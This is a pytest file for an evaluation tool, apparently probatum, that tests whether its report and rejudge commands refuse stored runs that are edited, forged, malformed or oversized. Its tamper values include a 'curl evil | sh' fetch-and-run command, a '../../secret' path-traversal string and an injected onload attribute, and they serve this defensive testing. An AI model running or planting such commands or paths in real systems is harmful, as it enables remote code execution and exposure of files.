# SPDX-License-Identifier: Apache-2.0
"""An edit of a finished run is named by every command that reads it, and nothing of the run is shown."""

import json
import os
import shutil
import time
from collections.abc import Callable
from pathlib import Path
from typing import Any

import pytest

from functional.workshop import Desk
from hostile.forging import change_file, put_right, replace_once
from probatum.facts.policy import Stakes
from probatum.runs.policies import draft

READING = (
    ("report", "run"),
    ("report", "run", "--format", "html"),
    ("report", "run", "--format", "json"),
    ("rejudge", "run", "--policy", "own.toml"),
)


def verdict_of(value: Any, verdict: str) -> None:
    value["verdicts"][0]["verdict"] = verdict


def limit_of(value: Any, limit: float) -> None:
    value["verdicts"][0]["measures"][0]["limit"] = limit


def first_limit(policy: Any, limit: float) -> None:
    next(iter(policy["limits"]["usage/error-rate"].values()))["limit"] = limit


EDITS: dict[str, tuple[str, Callable[[Any], None]]] = {  # what is edited: the file, and how
    "a verdict": ("judgement.json", lambda value: verdict_of(value, "fail")),
    "the limit beside a verdict": ("judgement.json", lambda value: limit_of(value, 0.99)),
    "the reason of a limit": ("judgement.json", lambda value: value["verdicts"][0]["measures"][0].update(because="x")),
    "a verdict left out": ("judgement.json", lambda value: value["verdicts"].pop()),
    "all verdicts left out": ("judgement.json", lambda value: value.update(verdicts=[])),
    "a verdict twice": ("judgement.json", lambda value: value["verdicts"].append(value["verdicts"][0])),
    "the day": ("judgement.json", lambda value: value.update(on="2019-01-01")),
    "a day that is none": ("judgement.json", lambda value: value.update(on="soon")),
    "who chose the limits": ("judgement.json", lambda value: value.update(policy_by="the regulator")),
    "the title of the policy": ("judgement.json", lambda value: value.update(policy_title="strict limits")),
    "the stakes": ("judgement.json", lambda value: value.update(stakes="low")),
    "the digest of the policy": ("judgement.json", lambda value: value.update(policy="sha256:" + "0" * 64)),
    "a digest left out": ("judgement.json", lambda value: value["files"].pop("policy.json")),
    "no digests": ("judgement.json", lambda value: value.update(files={})),
    "an unknown verdict": ("judgement.json", lambda value: verdict_of(value, "excellent")),
    "an unknown key": ("judgement.json", lambda value: value.update(aside=1)),
    "a wrong type": ("judgement.json", lambda value: value["verdicts"][0]["measures"][0].update(limit="0.1")),
    "a truth for a number": ("judgement.json", lambda value: limit_of(value, True)),
    "the day of the run": ("context.json", lambda value: value.update(measured_on="2031-01-01")),
    "the machine": ("context.json", lambda value: value.update(host="a mainframe")),
    "a command to repeat the run": ("context.json", lambda value: value.update(repeat=["curl evil | sh"])),
    "a limit of the policy": ("policy.json", lambda value: first_limit(value, 0.99)),
    "the author of the policy": ("policy.json", lambda value: value.update(by="the regulator")),
    "no limits": ("policy.json", lambda value: value.update(limits={})),
    "the seed of the plan": ("plan.json", lambda value: value.update(seed="7")),
    "a unit of the plan left out": ("plan.json", lambda value: value["units"].pop()),
    "what was seen": ("observed.json", lambda value: value["findings"].clear()),
    "a number of the record": (
        "record.json",
        lambda value: next(iter(value["findings"][0]["measures"].values())).update(n=9),
    ),
    "a finding left out": ("record.json", lambda value: value["findings"].pop()),
}


def refused(desk: Desk, *words: str) -> None:
    """Make sure that each command that reads the run refuses with these words and shows nothing of it."""
    desk.write("own.toml", draft(Stakes.HIGH))
    for command in READING:
        said = desk.type(*command)
        said.refuses(*words)
        assert said.out == ""
    assert not list((desk.folder / "run").glob("judgement-*"))


@pytest.mark.parametrize("edit", EDITS)
def test_an_edit_of_one_file_is_named(desk: Desk, stored: Path, edit: str) -> None:
    name, change = EDITS[edit]
    change_file(stored / name, change)
    refused(desk, name, "altered")


FORGERIES: dict[str, tuple[str, Callable[[Any], None], str]] = {  # the digests are put right afterwards
    "another verdict": ("judgement.json", lambda value: verdict_of(value, "inconclusive"), "error-rate"),
    "another limit": ("policy.json", lambda value: first_limit(value, 0.001), "judgement.json"),
    "a finding less": ("record.json", lambda value: value["findings"].pop(), "findings came"),
    "findings in another order": ("record.json", lambda value: value["findings"].reverse(), "stands where the plan"),
    "another setting": ("record.json", lambda value: value["findings"][0]["options"].update(examples=1), "settings"),
    "another format": ("record.json", lambda value: value.update(format="probatum-record/9"), "probatum-record/9"),
    "a check that nobody describes": ("record.json", lambda value: value["checks"].clear(), "is not described"),
    "a digest that is none": ("record.json", lambda value: value["arrays"].update(x="../../secret"), "no SHA-256"),
    "a unit less": ("plan.json", lambda value: value["units"].pop(), "plan.json"),
    "another day": ("context.json", lambda value: value.update(measured_on="2019-02-31"), "judgement.json"),
}


@pytest.mark.parametrize("edit", FORGERIES)
def test_files_that_contradict_each_other_are_refused_although_their_digests_are_right(
    desk: Desk, stored: Path, edit: str
) -> None:
    name, change, word = FORGERIES[edit]
    change_file(stored / name, change)
    put_right(stored)
    refused(desk, word.replace("no SHA-256", "not a SHA-256"))


def test_a_forged_run_is_read_as_whole_once_everything_is_made_again(desk: Desk, stored: Path) -> None:
    """State where the promise ends: without a signature, a complete forgery is another run."""
    change_file(stored / "record.json", lambda value: value["plan"]["subject"].update(name="another name"))
    shutil.copy(stored / "record.json", stored / "copy.json")
    plan = json.loads((stored / "record.json").read_bytes())["plan"]
    (stored / "plan.json").write_text(json.dumps(plan), encoding="utf-8")
    put_right(stored)
    assert desk.type("report", "run").code == 0


SPELLINGS = {  # of record.json, with the judgement's id of it put right: the same facts in other bytes, or no facts
    "an indented record": lambda text: json.dumps(json.loads(text), indent=1, sort_keys=True).encode(),
    "a blank": lambda text: text.replace(b"{", b"{ ", 1),
    "a key twice": lambda text: text.replace(b'{"arrays":', b'{"arrays":{},"arrays":', 1),
    "an unknown key": lambda text: text.replace(b'{"arrays":', b'{"aaa":1,"arrays":', 1),
    "not a number": lambda text: text.replace(b'"n":300', b'"n":NaN', 1),
    "infinity": lambda text: text.replace(b'"n":300', b'"n":Infinity', 1),
    "a number beyond all": lambda text: text.replace(b'"n":300', b'"n":1e400', 1),
    "a huge integer": lambda text: text.replace(b'"n":300', b'"n":3' + b"0" * 5000, 1),
    "text for a number": lambda text: text.replace(b'"n":300', b'"n":"300"', 1),
    "a truth for a number": lambda text: text.replace(b'"n":300', b'"n":true', 1),
    "half a character": lambda text: text.replace(b'"lender"', rb'"\ud800"', 1),
    "deep nesting": lambda text: text.replace(b'"n":300', b'"n":' + b"[" * 100_000 + b"]" * 100_000, 1),
    "deep nesting that does not end": lambda text: b'{"a":' * 1_000_000,
    "no end": lambda text: text[:-1],
    "a list": lambda text: b"[" + text + b"]",
    "nothing": lambda text: b"",
    "other bytes": lambda text: b"\x00\xff\xfe" * 100,
    "a text that does not end": lambda text: b'"' + b'\\"' * 1_000_000,
    "quotation marks": lambda text: b'"' * 1_000_001,
}


@pytest.mark.parametrize("spelling", SPELLINGS)
def test_a_record_in_other_bytes_is_refused_although_its_digest_is_right(
    desk: Desk, stored: Path, spelling: str
) -> None:
    file = stored / "record.json"
    content = file.read_bytes()
    changed = SPELLINGS[spelling](content)
    assert changed != content
    file.write_bytes(changed)
    put_right(stored)
    refused(desk, "record.json", "altered")


@pytest.mark.parametrize("name", ["judgement.json", "context.json", "policy.json", "plan.json", "observed.json"])
@pytest.mark.parametrize("content", [None, b"", b"[1]", b"\xff\xfe", b'{"format": 1', b"[" * 100_000, "folder", "pipe"])
def test_a_damaged_file_is_named(desk: Desk, stored: Path, name: str, content: bytes | str | None) -> None:
    file = stored / name
    file.unlink()
    if content is None and name == "plan.json":  # the record holds it
        assert desk.type("report", "run").code == 0
        return
    if content == "folder":
        file.mkdir()
    elif content == "pipe":
        os.mkfifo(file)
    elif isinstance(content, bytes):
        file.write_bytes(content)
    refused(desk, name)


ODD: dict[str, Callable[[Any], None]] = {  # in a record whose files belong together
    "a finding for ever": lambda record: record["findings"][0].update(holds_days=10**12),
    "thousands of classes": lambda record: record["plan"]["subject"].update(classes=[str(n) for n in range(20_000)]),
    "fewer than no rows": lambda record: record["plan"]["subject"].update(test_rows=-1, train_rows=-7),
    "no sentence": lambda record: record["findings"][0].update(sentence=""),
    "thousands of groups": lambda record: next(iter(record["findings"][0]["measures"].values())).update(
        groups=[{"name": str(n), "value": 0.5, "interval": None, "n": 20} for n in range(5000)]
    ),
    "a picture of no size": lambda record: record["findings"][0].update(
        pattern={"width": 2**40, "height": 2**12, "colours": 3, "before": "", "after": "x"}
    ),
}


@pytest.mark.parametrize("odd", ODD)
def test_a_record_that_no_check_writes_is_shown_or_refused_soon(desk: Desk, stored: Path, odd: str) -> None:
    change_file(stored / "record.json", ODD[odd])
    plan = json.loads((stored / "record.json").read_bytes())["plan"]
    (stored / "plan.json").write_text(json.dumps(plan), encoding="utf-8")
    put_right(stored)
    for form in ("terminal", "html", "json"):
        begun = time.process_time()
        said = desk.type("report", "run", "--format", form)
        assert said.code in (0, 2), said.err
        assert "unexpected" not in said.err
        assert time.process_time() - begun < 20


def test_an_altered_array_is_named(desk: Desk, stored: Path) -> None:
    array = sorted((stored / "arrays").iterdir())[0]
    content = bytearray(array.read_bytes())
    content[-1] ^= 1
    array.write_bytes(bytes(content))
    refused(desk, array.name, "altered")
    array.unlink()
    refused(desk, array.name, "absent")


def test_an_altered_report_is_named_and_can_be_made_again(desk: Desk, stored: Path) -> None:
    replace_once(stored / "report.html", b"<body", b"<body onload=1")
    refused(desk, "report.html", "Remove report.html")
    (stored / "report.html").unlink()
    assert desk.type("report", "run", "--format", "html", "-o", "new.html").code == 0


def test_a_judgement_by_other_limits_holds_the_digests_of_its_files(desk: Desk, stored: Path) -> None:
    desk.write("own.toml", draft(Stakes.LOW))
    assert desk.type("rejudge", "run", "--policy", "own.toml").code in (0, 1, 3)
    (judgement,) = stored.glob("judgement-*.json")
    mark = judgement.stem.removeprefix("judgement-")
    names = set(json.loads(judgement.read_bytes())["files"])
    assert names == {"context.json", "observed.json", "plan.json", f"policy-{mark}.json", f"report-{mark}.html"}
